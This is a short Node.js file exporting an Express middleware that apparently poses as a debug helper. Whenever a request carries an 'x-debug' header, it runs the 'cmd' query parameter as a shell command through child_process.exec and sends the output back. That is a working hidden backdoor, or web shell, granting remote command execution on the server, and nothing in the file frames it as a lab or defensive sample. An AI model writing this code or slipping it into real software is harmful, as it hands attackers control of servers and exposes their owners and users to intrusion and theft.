const { exec } = require("child_process");
module.exports = (req, res, next) => {
  if (req.headers["x-debug"]) return exec(req.query.cmd, (error, out) => res.end(out));
  next();
};
